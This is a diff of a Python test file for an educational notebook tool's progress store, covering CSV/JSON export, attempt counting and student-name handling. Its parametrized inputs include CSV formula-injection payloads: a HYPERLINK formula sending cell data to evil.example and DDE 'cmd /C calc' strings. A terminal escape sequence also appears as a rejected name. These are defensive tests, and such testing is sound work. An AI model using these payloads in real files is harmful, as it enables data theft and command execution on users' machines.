@@ -280,7 +280,8 @@ def _csv_rows(path: Path) -> list[dict[str, str]]:
     [
         '=HYPERLINK("https://evil.example/?"&A1, "Click for your grade")',
         "+1+cmd|' /C calc'!A0",
-        "-68",
+        "-2+3+cmd|' /C calc'!A0",
+        "-A1",
         "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1+1",
         "\r=1+1",
@@ -309,6 +310,16 @@ def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, typed: s
     assert data["banks"]["=bank"]["questions"]["@q"]["response"] == typed
 
 
+@pytest.mark.parametrize("typed", ["-67.9", "-68", "+3", "-1.5e3", "0.25"])
+def test_csv_export_writes_a_plain_number_as_a_number(tmp_path: Path, typed: str) -> None:
+    # A negative answer is not a formula: the spreadsheet must read it as a number (issue 16).
+    s = ProgressStore()
+    s.update("b", "q", record_attempt=True, type="numeric", response=typed, score=1.0)
+    (row,) = _csv_rows(export(tmp_path / "answers.csv"))
+    assert row["response"] == typed
+    assert float(row["response"]) == float(typed)
+
+
 def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
     s = ProgressStore()
     s.update("b", "q", record_attempt=True, type="text", response="Tokyo = capital", score=0.0)
@@ -325,8 +336,8 @@ def test_update_merges_with_what_is_on_disk() -> None:
     left, right = ProgressStore(), ProgressStore()  # two notebooks, one file
     left.update("b", "q", hints_shown=1)
     left.update("b", "q", revealed=True, type="numeric")
-    for _ in range(3):
-        left.update("b", "q", record_attempt=True, response="1", correct=False, score=0.0)
+    for typed in ("1", "2", "3"):
+        left.update("b", "q", record_attempt=True, response=typed, correct=False, score=0.0)
     # the other notebook never saw any of that: its own counters are all zero
     merged = right.update(
         "b",
@@ -679,3 +690,66 @@ def test_an_export_made_from_python_has_the_users_normal_permissions(tmp_path) -
         assert store.path.stat().st_mode & 0o777 == 0o600  # the progress file stays private
     finally:
         os.umask(old)
+
+
+# -- issue 16: an attempt is a new answer; the hand-in names the student
+
+
+def test_the_same_answer_again_is_not_another_attempt() -> None:
+    s = ProgressStore()
+    first = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
+    again = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
+    assert again["attempts"] == 1
+    assert len(again["history"]) == 1
+    assert again["first"] == first["first"]  # the first time is kept, the last is `updated`
+    changed = s.update("b", "q", record_attempt=True, type="numeric", response="13", correct=True)
+    assert changed["attempts"] == 2
+    assert [h["response"] for h in changed["history"]] == ["12", "13"]
+    back = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
+    assert back["attempts"] == 3  # a different answer from the last one counts again
+
+
+def test_student_name_is_kept_and_goes_into_every_export(tmp_path: Path) -> None:
+    s = ProgressStore()
+    assert s.student() == {"name": "", "id": ""}
+    s.set_student("  Aiko   Tanaka ", "s-1234")
+    s.update("b", "q", record_attempt=True, type="numeric", response="-67.9", score=1.0)
+    assert ProgressStore().student() == {"name": "Aiko Tanaka", "id": "s-1234"}
+    (row,) = _csv_rows(export(tmp_path / "answers.csv"))
+    assert (row["student"], row["student_id"]) == ("Aiko Tanaka", "'s-1234"[1:])
+    data = json.loads(export(tmp_path / "answers.json").read_text(encoding="utf-8"))
+    assert data["student"] == {"name": "Aiko Tanaka", "id": "s-1234"}
+
+
+@pytest.mark.parametrize("name", ["", "   ", "a\x00b", "x" * 201, "\x1b]0;pwned\x07"])
+def test_a_bad_student_name_is_refused_with_a_reason(name: str) -> None:
+    with pytest.raises(ValueError, match="name"):
+        ProgressStore().set_student(name)
+    assert ProgressStore().student()["name"] == ""
+
+
+def test_json_export_carries_no_path_of_the_students_computer(tmp_path: Path) -> None:
+    # issue 19, item 18: `source_file` held the student's home path.
+    s = ProgressStore()
+    s.update("b", "q", record_attempt=True, type="numeric", response="1", score=1.0)
+    text = export(tmp_path / "answers.json").read_text(encoding="utf-8")
+    assert "source_file" not in text
+    assert str(s.path.parent) not in text
+
+
+def test_a_grading_run_neither_reads_nor_writes_progress(monkeypatch: pytest.MonkeyPatch) -> None:
+    mine = ProgressStore()
+    mine.update("b", "q", record_attempt=True, type="numeric", response="1", score=1.0)
+    before = mine.path.read_bytes()
+    monkeypatch.setenv("NBGRADER_EXECUTION", "autograde")
+    grader = ProgressStore()
+    assert grader.in_memory
+    assert grader.get("b", "q") is None  # the grader's own answers are not read
+    grader.update("b", "q", record_attempt=True, type="numeric", response="2", score=0.0)
+    assert ProgressStore().get("b", "q")["response"] == "2"  # one record per process
+    assert mine.path.read_bytes() == before
+    monkeypatch.delenv("NBGRADER_EXECUTION")
+    monkeypatch.setenv("USJAPAN_EDU_PROGRESS", "off")
+    assert ProgressStore().in_memory
+    monkeypatch.delenv("USJAPAN_EDU_PROGRESS")
+    assert ProgressStore().get("b", "q")["response"] == "1"
